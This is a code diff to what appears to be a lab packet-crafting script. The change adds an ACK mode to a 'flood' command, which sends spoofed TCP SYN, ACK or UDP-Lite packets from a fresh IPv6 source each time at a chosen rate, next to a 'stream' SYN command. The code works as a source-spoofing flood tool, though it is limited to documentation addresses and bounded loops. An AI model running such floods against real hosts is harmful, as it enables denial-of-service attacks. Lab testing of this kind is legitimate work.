@@ -5,9 +5,9 @@
   stream SOURCE TARGET TRAP PORT GAP_US COUNT
                                  (attacker ns) one SYN to TRAP, then COUNT SYNs
                                  to PORT every GAP_US microseconds
-  flood DEV DST_MAC TARGET6 RATE SECONDS PORT [udplite]
-                                 (attacker ns) SYNs (or UDP-Lite datagrams) to
-                                 TARGET6:PORT, each from a new source in
+  flood DEV DST_MAC TARGET6 RATE SECONDS PORT [udplite|ack]
+                                 (attacker ns) SYNs (UDP-Lite datagrams, ACKs)
+                                 to TARGET6:PORT, each from a new source in
                                  2001:db8::/64, at RATE per second
 
 Every loop is bounded by its count or its seconds. Addresses are the lab's.
@@ -37,8 +37,8 @@ def _checksum(data: bytes) -> int:
     return ~total & 0xFFFF
 
 
-def tcp_syn(src: bytes, dst: bytes, sport: int, dport: int, v6: bool) -> bytes:
-    header = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, SYN,
+def tcp_syn(src: bytes, dst: bytes, sport: int, dport: int, v6: bool, flags: int = SYN) -> bytes:
+    header = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, flags,
                          64240, 0, 0)
     if v6:
         pseudo = src + dst + struct.pack("!I3xB", len(header), 6)
@@ -99,8 +99,8 @@ def stream(source: str, target: str, trap: int, port: int, gap_us: float, count:
 
 def flood(dev: str, dst_mac: str, target6: str, rate: float, seconds: float, port: int,
           protocol: str = "tcp") -> None:
-    """SYNs (UDP-Lite datagrams) from distinct sources 2001:db8::1:xxxx:xxxx
-    (inside the lab's /64)."""
+    """SYNs (UDP-Lite datagrams, ACKs) from distinct sources
+    2001:db8::1:xxxx:xxxx (inside the lab's /64)."""
     number = 136 if protocol == "udplite" else 6
     s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IPV6))
     mac = bytes.fromhex(dst_mac.replace(":", ""))
@@ -117,7 +117,7 @@ def flood(dev: str, dst_mac: str, target6: str, rate: float, seconds: float, por
         src = (base + i).to_bytes(16, "big")  # a new source every time
         sport = 40000 + (i % 20000)
         segment = (struct.pack("!HHHH", sport, port, 0, 0) if number == 136
-                   else tcp_syn(src, dst, sport, port, True))
+                   else tcp_syn(src, dst, sport, port, True, ACK if protocol == "ack" else SYN))
         header = struct.pack("!IHBB", 0x60000000, len(segment), number, 64) + src + dst
         s.sendto(header + segment, address)
         sent += 1
